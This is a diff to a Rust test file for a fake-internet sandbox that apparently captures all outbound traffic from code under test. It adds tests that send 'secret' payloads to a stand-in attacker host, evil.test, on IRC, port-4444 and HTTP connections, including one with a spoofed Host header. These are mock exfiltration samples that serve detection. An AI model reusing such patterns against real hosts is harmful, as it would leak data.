@@ -13,7 +13,7 @@ struct Cell {
     internet: FalseInternet,
     resolver: SocketAddr,
     ports: Vec<u16>,
-    _guard: FalseInternetGuard,
+    guard: FalseInternetGuard,
 }
 
 fn cell() -> Cell {
@@ -24,7 +24,7 @@ fn cell() -> Cell {
     let all = std::iter::once(OwnedFd::from(resolver)).chain(listeners.into_iter().map(OwnedFd::from));
     let internet = FalseInternet::new(FalseAddresses::Loopback).unwrap();
     let guard = internet.serve(all.collect()).unwrap();
-    Cell { internet, resolver: at, ports, _guard: guard }
+    Cell { internet, resolver: at, ports, guard }
 }
 
 impl Cell {
@@ -70,7 +70,7 @@ async fn every_name_exists_and_every_request_is_kept_and_answered() {
     assert!(answer.starts_with("HTTP/1.1 200") && answer.ends_with("{}"), "{answer}");
     let seen = cell.seen();
     assert_eq!(seen[0], "DNS evil.test name=evil.test");
-    assert!(seen[1].starts_with("HTTP evil.test path=POST /a?b=c header x-key=v"), "{seen:?}");
+    assert!(seen[1].starts_with("HTTP evil.test path=POST /a?b=c header host=evil.test header x-key=v"), "{seen:?}");
     assert!(seen[1].ends_with("body=body"), "{seen:?}");
 }
 
@@ -117,4 +117,76 @@ async fn what_is_neither_http_nor_tls_is_kept_as_it_is() {
         tokio::task::yield_now().await;
     }
     assert_eq!(cell.seen()[1], "TCP evil.test bytes=\u{1}secret");
+}
+
+/// Sends these bytes to a port of a host, and closes the connection unless it is held.
+async fn say(cell: &Cell, host: &str, port: u16, bytes: &[u8]) -> TcpStream {
+    let mut stream = cell.connect(host, port).await;
+    stream.write_all(bytes).await.unwrap();
+    stream
+}
+
+#[tokio::test]
+async fn a_protocol_that_begins_like_a_request_is_kept_as_it_is() {
+    let headers: String = (0..1100).map(|at| format!("x-{at}: a\r\n")).collect();
+    let request = format!("GET / HTTP/1.1\r\nhost: evil.test\r\n{headers}x-key: secret\r\n\r\n");
+    let cut = "POST / HTTP/1.1\r\nhost: evil.test\r\ncontent-length: 400\r\n\r\nsecret".to_owned();
+    for said in ["NICK secret\r\nUSER secret\r\n".to_owned(), "helo secret\r\n".to_owned(), request, cut] {
+        let cell = cell();
+        drop(say(&cell, "evil.test", 6667, said.as_bytes()).await);
+        cell.guard.finish().await;
+        let sent = cell.internet.sent();
+        assert!(
+            sent.iter()
+                .any(|sent| sent.parts.iter().any(|(_, part)| part.ends_with(&said.as_bytes()[said.len() - 9..]))),
+            "{said:.30}: {sent:?}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn what_is_said_on_a_connection_that_stays_open_is_kept() {
+    let cell = cell();
+    let _open = say(&cell, "evil.test", 4444, b"\x01secret").await;
+    let _half = say(&cell, "evil.test", 80, b"GET /secret").await;
+    cell.guard.finish().await;
+    let shown: Vec<String> = cell.internet.sent().iter().map(|sent| format!("{:?}", sent.parts)).collect();
+    let wanted = |bytes: &[u8]| format!("{:?}", [("bytes".to_owned(), bytes.to_vec())]);
+    assert!(shown.contains(&wanted(b"\x01secret")) && shown.contains(&wanted(b"GET /secret")), "{shown:?}");
+}
+
+#[tokio::test]
+async fn a_datagram_that_is_no_query_is_kept() {
+    let cell = cell();
+    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
+    let long = [b"\xffsecret".as_slice(), &[0; 2000]].concat();
+    socket.send_to(&long, cell.resolver).await.unwrap();
+    cell.guard.finish().await;
+    let sent = cell.internet.sent();
+    assert_eq!((sent[0].channel, &sent[0].parts[0].1), (Channel::Udp, &long));
+}
+
+#[tokio::test]
+async fn a_request_that_names_another_host_was_sent_to_both_and_its_host_is_kept() {
+    let cell = cell();
+    let request = REQUEST.replace("evil.test", "api.github.com");
+    let _ = say(&cell, "evil.test", 80, request.as_bytes()).await.read_to_end(&mut Vec::new()).await;
+    let seen = cell.seen();
+    for host in ["evil.test", "api.github.com"] {
+        let start = format!("HTTP {host} path=POST /a?b=c header host=api.github.com");
+        assert!(seen.iter().any(|seen| seen.starts_with(&start)), "{host}: {seen:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_flood_of_names_leaves_room_for_what_is_sent_and_is_counted() {
+    let shared = Traffic::default();
+    let to = |host: String| Sender { host, port: 53 };
+    for at in 0..9000 {
+        shared.note(Channel::Dns, &to(format!("n{at}.test")), Vec::new());
+        shared.note(Channel::Http, &to("flood.test".to_owned()), Vec::new());
+    }
+    assert!(shared.others() > 0);
+    shared.note(Channel::Http, &to("evil.test".to_owned()), vec![("body".to_owned(), b"secret".to_vec())]);
+    assert_eq!(shared.sent().last().unwrap().host, "evil.test");
 }
